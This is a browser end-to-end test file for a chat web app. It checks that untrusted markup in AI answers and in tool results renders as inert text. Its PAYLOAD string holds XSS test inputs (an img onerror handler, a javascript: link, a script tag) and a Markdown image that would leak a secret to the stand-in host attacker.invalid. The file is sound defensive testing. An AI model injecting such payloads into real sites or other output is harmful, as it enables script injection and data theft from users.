"""Untrusted text in answers and tool results: raw HTML, javascript: links and remote images do nothing."""

from __future__ import annotations

from typing import Any

import pytest

from tests.e2e.conftest import Server
from tests.e2e.pages import send, wait_answered

pytestmark = pytest.mark.e2e
# The offline model quotes the message verbatim in its answer (a Markdown blockquote).
PAYLOAD = (
    "Render this: <img src=x onerror=alert(document.domain)> and [click me](javascript:alert(1)) "
    "and ![chart](https://attacker.invalid/leak.png?c=secret) <script>alert(2)</script>"
)

DOM_CHECK = """(root) => {
  const scope = document.querySelector(root) || document;
  const onAttrs = [...scope.querySelectorAll('*')].flatMap(el => [...el.attributes]
      .filter(a => a.name.toLowerCase().startsWith('on')).map(a => el.tagName + ' ' + a.name));
  const badLinks = [...scope.querySelectorAll('a[href]')].map(a => a.getAttribute('href'))
      .filter(h => !/^(https?:|mailto:|\\/|#)/i.test(h.trim()));
  const images = [...scope.querySelectorAll('img')].map(i => i.getAttribute('src'));
  const scripts = [...scope.querySelectorAll('script')].length;
  return { onAttrs, badLinks, images, scripts };
}"""


def assert_inert(page: Any, root: str) -> None:
    found = page.evaluate(DOM_CHECK, root)
    assert found == {"onAttrs": [], "badLinks": [], "images": [], "scripts": 0}, found


def test_markup_in_answers_and_tool_results_does_nothing(open_browser: Any, server: Server) -> None:
    _, key = server.new_user()
    browsing = open_browser()
    browsing.sign_in_with_key(key)
    page = browsing.page

    send(page, PAYLOAD)
    first = wait_answered(page, 0)
    answer = first.locator("[data-testid=answer]")
    text = answer.inner_text()
    assert "<img src=x onerror=alert(document.domain)>" in text  # shown as text, not as an element
    assert "[click me](javascript:alert(1))" in text
    assert "<script>alert(2)</script>" in text
    assert "Image not loaded: chart" in text  # the remote image is a placeholder, never fetched
    assert first.locator(".user-text").inner_text() == PAYLOAD
    assert_inert(page, ".messages")
    # Clicking the would-be link does nothing either.
    answer.get_by_text("javascript:alert(1)").first.click()
    assert "/c/" in page.url

    # The same text, as a tool's full result (fetched by ID), is just as inert.
    send(page, "show me the full answer from earlier")
    second = wait_answered(page, 1)
    second.locator(".tool-head").click()
    second.get_by_role("button", name="Show full text (q2-t1)").click()
    second.get_by_test_id("tool-full").wait_for()
    assert "onerror=alert(document.domain)" in second.get_by_test_id("tool-full").inner_text()
    assert_inert(page, "#app")
    # Let any injected handler fire: the page renders two more frames and runs its pending tasks.
    page.evaluate("() => new Promise(r => requestAnimationFrame(() => requestAnimationFrame(() => setTimeout(r))))")
    assert browsing.watch.dialogs == []
    assert not any("attacker.invalid" in url for url in browsing.watch.foreign_requests)
    assert page.locator(".sidebar .conv-title").first.inner_text().startswith("Render this: <img src=x")
    first.evaluate("el => el.scrollIntoView({ block: 'start' })")
    browsing.shot("05-untrusted-markup-inert")
